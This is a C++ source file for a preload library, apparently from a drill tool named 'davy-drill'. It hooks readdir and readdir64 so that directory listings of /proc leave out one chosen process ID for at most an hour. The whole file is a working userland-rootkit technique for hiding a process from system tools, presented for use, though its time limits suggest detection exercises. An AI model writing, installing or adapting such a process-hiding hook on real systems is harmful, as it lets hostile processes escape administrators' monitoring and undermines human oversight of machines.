// The library behind `davy-drill hide preload`: directory listings of /proc leave out one process.
//
// The order "PID:END" (END in seconds since 1970) comes from the environment or from a file named like the library plus
// ".hide". After END, or when END lies more than an hour ahead, nothing is hidden. Thread-safe; no allocation.
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <sys/vfs.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>

namespace {

constexpr std::time_t kSecondsMax = 3600;
constexpr std::size_t kOrderBytesMax = 64;

bool order_from_file(char* order) {
  Dl_info self{};
  if (dladdr(reinterpret_cast<void*>(&order_from_file), &self) == 0 || self.dli_fname == nullptr) return false;
  char path[4096];
  if (std::snprintf(path, sizeof path, "%s.hide", self.dli_fname) >= static_cast<int>(sizeof path)) return false;
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return false;
  const ssize_t got = read(fd, order, kOrderBytesMax - 1);
  close(fd);
  if (got <= 0) return false;
  order[got] = '\0';
  return true;
}

bool read_order(char* order) {
  const char* given = std::getenv("DAVY_DRILL_HIDE");
  if (given == nullptr) return order_from_file(order);
  std::strncpy(order, given, kOrderBytesMax - 1);
  order[kOrderBytesMax - 1] = '\0';
  return true;
}

bool lists_processes(DIR* directory) {
  struct statfs status;
  return fstatfs(dirfd(directory), &status) == 0 && status.f_type == PROC_SUPER_MAGIC;
}

bool is_hidden(const char* name) {
  char order[kOrderBytesMax];
  if (name[0] < '1' || name[0] > '9' || !read_order(order)) return false;
  char* colon = std::strchr(order, ':');
  if (colon == nullptr) return false;
  *colon = '\0';
  const std::time_t left = std::strtol(colon + 1, nullptr, 10) - std::time(nullptr);
  return left > 0 && left <= kSecondsMax && std::strcmp(order, name) == 0;
}

template <class Entry>
Entry* next_visible(DIR* directory, Entry* (*next)(DIR*)) {
  if (next == nullptr) return nullptr;
  Entry* entry = next(directory);
  while (entry != nullptr && is_hidden(entry->d_name) && lists_processes(directory)) entry = next(directory);
  return entry;
}

}  // namespace

extern "C" __attribute__((visibility("default"))) dirent* readdir(DIR* directory) {
  return next_visible(directory, reinterpret_cast<dirent* (*)(DIR*)>(dlsym(RTLD_NEXT, "readdir")));
}

extern "C" __attribute__((visibility("default"))) dirent64* readdir64(DIR* directory) {
  return next_visible(directory, reinterpret_cast<dirent64* (*)(DIR*)>(dlsym(RTLD_NEXT, "readdir64")));
}
